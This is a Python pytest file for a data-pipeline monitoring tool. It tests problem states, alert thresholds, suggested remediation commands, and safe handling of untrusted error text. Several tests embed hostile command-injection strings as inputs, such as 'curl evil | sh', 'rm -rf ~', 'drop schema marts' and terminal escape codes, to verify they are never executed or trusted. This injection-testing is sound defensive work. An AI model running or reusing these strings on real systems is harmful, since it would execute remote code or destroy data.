"""What is wrong, from statuses that were made up."""

import json
import shlex
from pathlib import Path
from typing import Any

import pytest

from headrace.command import Command
from headrace.durations import count, duration
from headrace.exceptions import DatasetError
from headrace.monitor.problems import AlertThresholds, Overview, find_problems, find_problems_by, over_thresholds
from headrace.settings import Settings
from tests.support.statuses import dataset, model, seconds_ago, status


def judged(limits: AlertThresholds | None = None, **values: Any) -> Overview:
    return find_problems_by(status(dataset(**values)), {"jobs": limits or AlertThresholds()})


def found(overview: Overview) -> list[tuple[str, str, str]]:
    return [(problem.severity, problem.kind, str(problem.command)) for problem in overview.problems]


def test_dataset_that_is_up_to_date_is_no_problem() -> None:
    overview = judged(AlertThresholds(max_lag=1, max_freshness_s=10))
    assert overview.problems == []
    assert overview.states == {"jobs": "current"}


@pytest.mark.parametrize(
    ("values", "state"),
    [
        ({"lag": 3, "lag_s": 1.0}, "behind"),
        ({"unbuilt_batches": 2, "unbuilt_s": 5.0}, "building"),
        ({"unbuilt_batches": 2, "has_marts": False}, "current"),
        ({"generation": None}, "empty"),
        ({"last_error": "x"}, "failing"),
        ({"observed_at": seconds_ago(400)}, "unseen"),
        ({"paused_at": seconds_ago(400), "last_error": "x"}, "paused"),
    ],
)
def test_state_is_the_worst_that_is_true(values: dict[str, Any], state: str) -> None:
    assert judged(**values).states == {"jobs": state}


def test_error_of_the_source_has_the_command_that_came_with_it() -> None:
    error = "jobs[0]: retention overtook the checkpoint; `headrace accept-loss jobs --partition 0 --to 9` goes on"
    overview = judged(last_error=error, last_command=Command("accept-loss", "jobs", "--partition", 0, "--to", 9))
    assert found(overview) == [("error", "source", "headrace accept-loss jobs --partition 0 --to 9")]
    assert overview.document()["problems"][0]["command"] == "headrace accept-loss jobs --partition 0 --to 9"
    assert found(judged(last_error="no broker")) == [("error", "source", "headrace drain jobs")]


def test_dataset_that_is_paused_has_its_pause_in_place_of_the_problems_of_not_reading() -> None:
    unread = {
        "lag": 30, "lag_s": 900.0, "stale_s": 900.0, "observed_at": seconds_ago(900), "last_error": "no broker",
        "drain_error": "no space", "follower_lost_at": seconds_ago(800), "unbuilt_batches": 1, "unbuilt_s": 1000.0,
        "recent_dead": 3, "dead_by_reason": {"wrong_type": 3},
    }  # fmt: skip
    limits = AlertThresholds(max_lag=9, max_freshness_s=60)
    paused = judged(limits, **unread, paused_at=seconds_ago(800), paused_by="anna@a", pause_reason="broker upgrade")
    assert found(paused) == [
        ("warning", "paused", "headrace resume jobs"),
        ("warning", "unbuilt", "headrace build"),
        ("warning", "dead_letters", "headrace dead-letters jobs"),
    ]
    assert paused.problems[0].text == "paused for 13 min by anna@a: broker upgrade; nothing is read"
    assert over_thresholds(paused) == []
    read = judged(limits, **unread)
    assert [problem.kind for problem in read.problems] == ["source", "unbuilt", "dead_letters"]
    assert {problem.kind for problem in over_thresholds(read)} == {"lag", "freshness"}


def test_no_command_is_taken_from_the_text_of_an_error() -> None:
    hostile = "jobs: `headrace reset users --yes; curl evil | sh`.csv\x1b[2J\r\u202e: found a file of another kind"
    for error in ("last_error", "drain_error"):
        (problem,) = judged(AlertThresholds(is_file=True), **{error: hostile}).problems
        assert str(problem.command) == "headrace load jobs"
        assert problem.line().isprintable()
        assert "\\x1b[2J" in problem.text


@pytest.mark.parametrize(
    "arguments",
    [
        ["reset", "users"],  # another dataset than the row's
        ["reset", "jobs", "--yes"],
        ["drain", "jobs", "; curl evil | sh"],
        ["accept-loss", "jobs", "--partition", "0; sh", "--to", "9"],
        ["accept-loss", "jobs", "--partition", "٣", "--to", "9"],
        ["psql", "-c", "drop schema marts"],
        ["drain\n", "jobs"],
        ["drain", None],
        [],
        None,
    ],
)
def test_row_that_names_another_command_than_ours_has_none(arguments: list[str | None] | None) -> None:
    assert Command.of_row(arguments, "jobs") is None


def test_model_of_any_name_is_one_argument_of_its_command() -> None:
    hostile = model("m; rm -rf ~\x1b[2J", status="error", message="x")
    (problem,) = find_problems_by(status(models=[hostile]), {}).problems
    assert shlex.split(str(problem.command)) == ["headrace", "build", "--select", "m; rm -rf ~\\x1b[2J"]
    assert problem.line().isprintable()


def test_lag_beyond_its_limit_is_an_error_and_below_it_is_none() -> None:
    overview = judged(AlertThresholds(max_lag=100), lag=101, lag_s=1.0)
    assert found(overview) == [("error", "lag", "headrace drain jobs")]
    assert overview.states == {"jobs": "late"}
    assert over_thresholds(overview)[0].line() == (
        "jobs: 101 unread records, expected at most 100; run `headrace drain jobs`"
    )
    assert judged(AlertThresholds(max_lag=100), lag=100, lag_s=1.0).problems == []


@pytest.mark.parametrize(
    ("values", "command", "text"),
    [
        ({"stale_s": 61.0}, "headrace build", "a record has waited in staging for up to 1 min"),
        ({"stale_s": 61.0, "lag": 1}, "headrace drain jobs", "a record has waited at the source for up to 1 min"),
        ({"stale_s": None, "lag": 1}, "headrace drain jobs", "for an unknown time"),
        ({"observed_at": seconds_ago(70)}, "headrace drain jobs", "last checked 1 min ago"),
        ({"observed_at": None}, "headrace drain jobs", "last checked never"),
    ],
)
def test_freshness_beyond_its_limit_is_an_error(values: dict[str, Any], command: str, text: str) -> None:
    overview = judged(AlertThresholds(max_freshness_s=60), **values)
    assert [str(problem.command) for problem in over_thresholds(overview)] == [command]
    assert text in over_thresholds(overview)[0].text
    assert over_thresholds(judged(None, **values)) == []


def test_errors_come_before_warnings() -> None:
    overview = find_problems_by(
        status(
            dataset("a", recent_dead=5, dead_by_reason={"wrong_type": 5}),
            dataset("b", follower_lost_at=seconds_ago(60), observed_at=seconds_ago(80)),
            dataset("c", unbuilt_batches=4, unbuilt_s=1000.0),
            dataset("d", last_error="broken"),
            models=[model("m", failed_tests=["unique_m: 2 rows"]), model("n", status="error", message="no column")],
        ),
        {name: AlertThresholds() for name in "abcd"},
    )
    assert found(overview) == [
        ("error", "source", "headrace drain d"),
        ("error", "tests", "headrace build --select m"),
        ("error", "model", "headrace build --select n"),
        ("warning", "dead_letters", "headrace dead-letters a"),
        ("warning", "follower", "headrace follow b"),
        ("warning", "unbuilt", "headrace build"),
    ]
    assert all("\n" not in problem.text for problem in overview.problems)


def test_file_is_loaded_and_may_be_looked_at_once_an_hour() -> None:
    assert judged(AlertThresholds(is_file=True, schedule_s=3600), observed_at=seconds_ago(4000)).problems == []
    assert judged(AlertThresholds(is_file=True), last_error="x").problems[0].command == Command("load", "jobs")
    assert judged(AlertThresholds(is_file=True)).dag_of("jobs") == "load_jobs"


def test_dataset_that_is_no_longer_declared_has_no_problems() -> None:
    overview = find_problems_by(status(dataset("gone", last_error="x", drain_error="y", recent_dead=1)), {})
    assert overview.problems == []
    assert overview.document()["datasets"][0]["state"] == "removed"
    assert not overview.is_declared("gone")


def test_follower_that_was_lost_is_no_problem_once_another_run_looked_at_the_source() -> None:
    assert judged(follower_lost_at=seconds_ago(60), observed_at=seconds_ago(59)).problems == []
    lost = judged(follower_lost_at=seconds_ago(60), observed_at=None)
    assert found(lost) == [("warning", "follower", "headrace follow jobs")]


def test_dead_letters_that_were_all_replayed_are_no_problem() -> None:
    assert judged(recent_dead=5, dead_by_reason={}).problems == []


def test_drain_that_failed_is_an_error_with_the_command_that_it_names() -> None:
    overview = judged(drain_error="jobs: no space left; nothing was changed", drain_failed_at=seconds_ago(60))
    assert found(overview) == [("error", "drain", "headrace drain jobs")]
    assert overview.problems[0].text == "its drain failed at 11:59:00 UTC: no space left; nothing was changed"
    assert overview.states == {"jobs": "failing"}
    named = judged(drain_error="x; run `headrace adopt jobs`", drain_command=Command("adopt", "jobs"))
    assert found(named)[0][2] == "headrace adopt jobs"
    assert found(judged(AlertThresholds(is_file=True), drain_error="x"))[0][2] == "headrace load jobs"


def test_declaration_that_cannot_be_imported_is_a_problem_and_hides_no_figures(tmp_path: Path) -> None:
    (tmp_path / "jobs.py").write_text("import nothing_of_that_name")
    (tmp_path / "lines.py").write_text("DATASET = Dataset(source=File(path='x'))")
    overview = find_problems(status(dataset(), dataset("gone")), Settings(datasets_dir=tmp_path))
    assert found(overview) == [
        ("error", "declaration", "headrace describe jobs"), ("error", "declaration", "headrace describe lines"),
    ]  # fmt: skip
    assert "ModuleNotFoundError: No module named 'nothing_of_that_name'" in overview.problems[0].text
    assert overview.status.datasets[0].staged == 990
    assert overview.states == {"jobs": "broken", "gone": "removed"}
    assert (overview.dag_of("jobs"), overview.dag_of("lines")) == ("ingest_jobs", "load_lines")
    assert over_thresholds(overview) == overview.problems  # it is not known whether it is late


def test_document_is_plain_json_with_the_state_in_front() -> None:
    document = judged(AlertThresholds(max_lag=5)).document()
    assert json.loads(json.dumps(document)) == document
    assert list(document)[:2] == ["at", "problems"]
    assert document["at"] == "2026-03-01T12:00:00.000+00:00"
    first = document["datasets"][0]
    assert list(first)[:2] == ["dataset", "state"]
    assert (first["state"], first["max_lag"], first["staged"]) == ("current", 5, 990)


def test_limits_of_a_declaration_are_above_zero() -> None:
    from headrace.dataset import Dataset, load_dataset

    declared = load_dataset(Settings().datasets_dir, "users")
    assert AlertThresholds.of(declared) == AlertThresholds(schedule_s=3600.0, is_file=True)
    with pytest.raises(DatasetError, match="max_lag is 0, expected more than 0"):
        Dataset(name="users", contract=declared.contract, source=declared.source, max_lag=0)


@pytest.mark.parametrize(
    ("seconds", "text"),
    [
        (None, "-"), (0, "0 s"), (0.001, "<0.01 s"), (0.42, "0.42 s"), (1.94, "1.9 s"), (9.97, "10 s"), (59.6, "1 min"),
        (61, "1 min"), (3600, "1 h"), (7500, "2 h 5 min"), (200_000, "2 d 8 h"), (-5, "0 s"),
    ],
)  # fmt: skip
def test_duration_is_short(seconds: float | None, text: str) -> None:
    assert duration(seconds) == text


@pytest.mark.parametrize(
    ("number", "text"),
    [
        (None, "-"), (0, "0"), (999_999, "999,999"), (1_000_000, "1.00M"), (12_345_678, "12.3M"), (987_654_321, "988M"),
        (999_999_999, "1.00B"), (12_345_678_901, "12.3B"),
    ],
)  # fmt: skip
def test_count_is_short(number: int | None, text: str) -> None:
    assert count(number) == text


@pytest.mark.parametrize(
    ("dead", "severity", "share"),
    [(1, "warning", "1 %"), (5, "warning", "5 %"), (6, "error", "6 %"), (89, "error", "89 %")],
)
def test_dead_letters_beyond_their_share_are_an_error_and_below_it_a_warning(
    dead: int, severity: str, share: str
) -> None:
    values = {"recent_dead": dead, "recent_records": 100, "dead_by_reason": {"wrong_type": 200}}
    (problem,) = judged(AlertThresholds(max_dead_percent=5), **values, dead_since=seconds_ago(90)).problems
    assert (problem.severity, problem.since) == (severity, seconds_ago(90))
    assert problem.text.endswith(f"most often wrong_type: {share} of its records, expected at most 5 %")


def test_dead_letters_that_were_all_acknowledged_are_no_problem() -> None:
    assert judged(recent_dead=0, recent_records=100, acknowledged=89, dead_by_reason={"wrong_type": 89}).problems == []
